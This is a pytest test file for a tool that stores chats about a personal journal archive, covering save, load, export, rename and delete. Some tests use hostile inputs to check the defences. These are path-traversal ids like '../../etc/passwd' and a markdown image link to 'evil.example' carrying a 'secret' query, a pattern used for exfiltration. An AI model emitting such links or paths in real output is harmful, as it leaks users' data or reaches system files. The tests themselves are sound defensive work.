"""Saved conversations: JSON and Markdown in the data dir, listed, exported, renamed, deleted."""

from __future__ import annotations

import datetime as dt
import json
from dataclasses import replace
from pathlib import Path

import pytest

from index.answer import Citation
from index.conversations import (
    Conversation,
    ConversationError,
    Conversations,
    Turn,
    conversation_markdown,
)
from tests.conftest import AppFactory, write

T0 = dt.datetime(2025, 3, 1, 9, 30, tzinfo=dt.UTC)


def turn(question: str, minutes: int, answer: str = "You swam at Sandsend [1].") -> Turn:
    citation = Citation(
        key=1,
        path="journal.md",
        date=dt.date(2014, 7, 20),
        title="",
        quote="The water was so cold I shouted.",
        start=120,
        end=152,
        chunk_id="c1",
        verified=True,
    )
    return Turn(
        question=question,
        standalone_question=question,
        answer=answer,
        citations=(citation,),
        asked_at=T0 + dt.timedelta(minutes=minutes),
        model="fake/scripted",
        searched="from 2014-01-01 to 2014-12-31",
        found=True,
    )


@pytest.fixture
def store(tmp_path: Path) -> Conversations:
    return Conversations(tmp_path / "data" / "conversations")


def saved(store: Conversations, *questions: str, start: int = 0) -> Conversation:
    conversation = store.new(now=T0)
    for offset, question in enumerate(questions):
        conversation = conversation.with_turn(turn(question, start + offset))
    store.save(conversation)
    return conversation


def test_save_and_load_round_trip(store: Conversations) -> None:
    conversation = saved(store, "Did I swim in 2014?", "And was it cold?")
    assert conversation.title == "Did I swim in 2014?"  # the first question, by default
    files = sorted(p.name for p in store.folder.iterdir())
    assert files == [f"{conversation.id}.json", f"{conversation.id}.md"]  # no temp files left
    loaded = store.load(conversation.id)
    assert loaded == conversation
    assert [e.question for e in loaded.history()] == ["Did I swim in 2014?", "And was it cold?"]
    data = json.loads((store.folder / f"{conversation.id}.json").read_text(encoding="utf-8"))
    assert data["turns"][0]["citations"][0]["quote"] == "The water was so cold I shouted."


def test_markdown_has_each_answer_with_dated_quotes(store: Conversations) -> None:
    conversation = saved(store, "Did I swim in 2014?")
    markdown = (store.folder / f"{conversation.id}.md").read_text(encoding="utf-8")
    assert markdown.startswith("# Did I swim in 2014?\n")
    assert "## Did I swim in 2014?" in markdown
    assert "You swam at Sandsend [1]." in markdown
    assert "1. 2014-07-20 · journal.md\n   > The water was so cold I shouted." in markdown
    assert markdown == conversation_markdown(conversation)


def test_list_is_most_recent_first(store: Conversations) -> None:
    older = saved(store, "first question", start=0)
    newer = saved(store, "second question", "and more", start=60)
    summaries = store.summaries()
    assert [s.id for s in summaries] == [newer.id, older.id]
    assert summaries[0].turns == 2 and summaries[0].title == "second question"
    (store.folder / "20250101-000000-beef.json").write_text("{not json", encoding="utf-8")
    (store.folder / "notes.json").write_text("{}", encoding="utf-8")
    assert len(store.summaries()) == 2  # unreadable or foreign files are skipped


def test_rename_and_delete(store: Conversations) -> None:
    conversation = saved(store, "Did I swim?")
    renamed = store.rename(conversation.id, "  Swimming   at Sandsend ")
    assert renamed.title == "Swimming at Sandsend"
    assert store.load(conversation.id).title == "Swimming at Sandsend"
    assert "# Swimming at Sandsend" in (store.folder / f"{conversation.id}.md").read_text()
    store.delete(conversation.id)
    assert list(store.folder.iterdir()) == []
    with pytest.raises(ConversationError, match="no conversation") as caught:
        store.load(conversation.id)
    assert "ponder conversations list" in caught.value.hint


def test_export_as_markdown_or_json(store: Conversations, tmp_path: Path) -> None:
    conversation = saved(store, "Did I swim?")
    markdown = store.export(conversation.id, tmp_path / "out" / "swim.md")
    assert markdown.read_text(encoding="utf-8") == conversation_markdown(conversation)
    as_json = store.export(conversation.id, tmp_path / "swim.json")
    assert json.loads(as_json.read_text(encoding="utf-8"))["id"] == conversation.id
    folder = tmp_path / "exports"
    folder.mkdir()
    assert store.export(conversation.id, folder) == folder / f"{conversation.id}.md"


def test_export_never_writes_into_the_archive(store: Conversations, tmp_path: Path) -> None:
    archive = tmp_path / "archive"
    archive.mkdir()
    conversation = saved(store, "Did I swim?")
    with pytest.raises(ConversationError, match="inside your archive"):
        store.export(conversation.id, archive / "notes" / "chat.md", archive=archive)
    assert list(archive.iterdir()) == []


@pytest.mark.parametrize("bad", ["../../etc/passwd", "x", "20250101-000000-beef/../x", ""])
def test_ids_cannot_reach_outside_the_folder(store: Conversations, bad: str) -> None:
    with pytest.raises(ConversationError):
        store.load(bad)
    with pytest.raises(ConversationError):
        store.delete(bad)


def test_what_the_model_was_shown_is_saved_with_the_answer(
    make_app: AppFactory, archive: Path, store: Conversations
) -> None:
    write(archive, "journal.md", "## 2014-03-02\nAt Whitby I decided to leave the city.\n")
    app = make_app()
    app.sync()
    answer = app.asker().answer("When did I decide to leave the city?")
    assert answer.found
    conversation = store.new(now=T0).with_turn(Turn.of(answer, T0))
    store.save(conversation)

    details = store.load(conversation.id).turns[0].details
    assert details is not None
    assert details.prompt == answer.prompt and details.prompt
    assert details.condense_prompt == answer.condense_prompt
    assert (details.model, details.parameters) == (answer.model, answer.parameters)
    assert details.citations == answer.citations and details.scope == answer.scope
    assert [(s.key, s.passage.doc_id, s.passage.text) for s in details.passages] == [
        (s.key, s.passage.doc_id, s.passage.text) for s in answer.passages
    ]
    assert details.timings.total_ms == pytest.approx(answer.timings.total_ms, abs=0.1)
    assert details.retrieval.query == answer.retrieval.query


def test_older_or_damaged_details_lose_only_the_details(store: Conversations) -> None:
    conversation = saved(store, "What did I do in the summer of 2014?")
    path = store.folder / f"{conversation.id}.json"
    data = json.loads(path.read_text(encoding="utf-8"))
    data["turns"][0]["details"] = {"question": "x", "passages": [{"broken": True}]}
    path.write_text(json.dumps(data), encoding="utf-8")
    [loaded] = store.load(conversation.id).turns
    assert loaded.details is None and loaded.answer == conversation.turns[0].answer
    del data["turns"][0]["details"]  # as ponder saved before details were kept
    path.write_text(json.dumps(data), encoding="utf-8")
    assert store.load(conversation.id).turns[0].details is None


def test_a_corrupt_file_is_a_clear_error(store: Conversations) -> None:
    store.folder.mkdir(parents=True)
    (store.folder / "20250101-000000-beef.json").write_text("{oops", encoding="utf-8")
    with pytest.raises(ConversationError, match="cannot read") as caught:
        store.load("20250101-000000-beef")
    assert "20250101-000000-beef.json" in caught.value.hint


def test_a_failed_answer_is_saved_with_its_error(store: Conversations) -> None:
    conversation = store.new(now=T0)
    failed = turn("Did I swim?", 0, answer="You swam at")
    conversation = conversation.with_turn(replace(failed, error="the model stopped mid-reply"))
    store.save(conversation)
    markdown = conversation_markdown(store.load(conversation.id))
    assert "You swam at" in markdown and "stopped early" in markdown


def test_markdown_never_loads_remote_images_or_runs_html(store: Conversations) -> None:
    conversation = store.new(now=T0).with_turn(
        turn("Did I swim?", 0, answer="See ![x](https://evil.example/?q=secret) <img src=x>")
    )
    markdown = conversation_markdown(conversation)
    assert "![" not in markdown and "<img" not in markdown
    assert "evil.example" in markdown  # still readable, as text
